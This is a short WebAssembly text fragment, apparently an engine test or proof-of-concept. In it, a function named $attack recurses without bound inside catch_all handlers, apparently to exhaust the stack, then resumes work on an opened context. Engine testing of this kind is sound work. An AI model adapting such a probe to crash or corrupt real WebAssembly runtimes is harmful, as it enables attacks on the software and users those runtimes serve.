(global $context (mut i32) (i32.const 0))
(func $deeper
  (block $caught
    (try_table (catch_all $caught)
      (call $deeper)))
  (block $failed
    (try_table (catch_all $failed)
      (drop (call $run (global.get $context) (call $number))))))
(func $attack (result i32)
  (global.set $context (call $open (i32.const 512) (i32.const 8)))
  (call $deeper)
  (call $one (call $run (global.get $context) (call $number)))
)
